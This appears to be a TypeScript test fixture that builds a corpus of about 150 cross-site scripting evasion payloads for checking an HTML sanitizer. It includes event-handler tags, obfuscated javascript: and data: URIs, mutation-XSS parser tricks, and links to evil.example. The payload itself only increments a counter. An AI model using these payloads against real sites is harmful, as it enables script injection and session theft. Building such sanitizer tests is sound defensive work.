/** What a payload does when it runs. */
const RUN = 'top.__ran=(top.__ran||0)+1'
const quoted = RUN.replaceAll("'", '&#39;')

/** Elements that act by themselves when an attribute holds code. */
const HANDLERS = [
  ['img src=x', 'onerror'],
  ['img src', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=/about', 'onload'],
  ['iframe srcdoc=x', 'onload'],
  ['object data=/about', 'onload'],
  ['embed src=/about', 'onload'],
  ['video><source src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['audio src=x autoplay', 'onloadstart'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['p tabindex=1 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['link rel=stylesheet href=/x.css', 'onerror'],
  ['link rel=prefetch href=/', 'onload'],
  ['script src=/none.js', 'onerror'],
  ['style', 'onload'],
  ['table background=x', 'onerror'],
  ['p style=animation-name:x', 'onanimationstart'],
  ['keygen autofocus', 'onfocus'],
  ['isindex autofocus', 'onfocus'],
  ['frameset', 'onload'],
  ['math><mtext', 'onclick'],
] as const

/** Ways in which an attribute is written so that a reader of text does not see it and a browser does. */
const written = (tag: string, name: string): string[] => [
  `<${tag} ${name}="${quoted}">`,
  `<${tag} ${name.toUpperCase()}=${RUN}>`,
  `<${tag}/${name}=${RUN}//`,
]

/** Addresses that are code. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript\u0000:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  `vbscript:${RUN}`,
  `feed:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
  `//evil.example/`,
  `\\\\evil.example`,
] as const
const linked = (address: string): string[] => [
  `<a href="${address}" class="evasion">press</a>`,
  `<form action="${address}"><button class="evasion">press</button></form>`,
]

/** Texts that change what they are while a parser mends them, and other odd ones. */
const ODD = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style><img src="</style><img src=x onerror=${RUN}//">`,
  `<title><img src="</title><img src=x onerror=${RUN}//">`,
  `<textarea><img src="</textarea><img src=x onerror=${RUN}//">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<table><td background="javascript:${RUN}"></table>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<img src="x\` onerror=${RUN}>`,
  `<img alt="<x" title="/><img src=x onerror=${RUN}>">`,
  `<p title='"><img src=x onerror=${RUN}>'>`,
  `<b x="<" onclick='${quoted}' autofocus>`,
  `\u0000<img src=x onerror=${RUN}>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `<a href="https://x" target="_self" onmouseover=${RUN}>x</a>`,
] as const

/** Some hundred and fifty texts that would run code where HTML is let through as it is. */
export const EVASIONS: readonly string[] = [
  ...HANDLERS.flatMap(([tag, name]) => written(tag, name)).filter((_, index) => index % 3 !== 2 || index < 60),
  ...ADDRESSES.flatMap(linked),
  ...ODD,
]

/** Ends whatever a text has begun, so that one text does not swallow the next. */
const END = '--></script></style></textarea></title></xmp></noscript></iframe></select></template></svg></math></table>'
/** All of them one after the other. One whose element nothing ends comes last. */
export const ALL_EVASIONS = [
  ...EVASIONS.filter((text) => !/plaintext|frameset/.test(text)),
  ...EVASIONS.filter((text) => /plaintext|frameset/.test(text)),
]
  .map((text) => text + END)
  .join('\n')
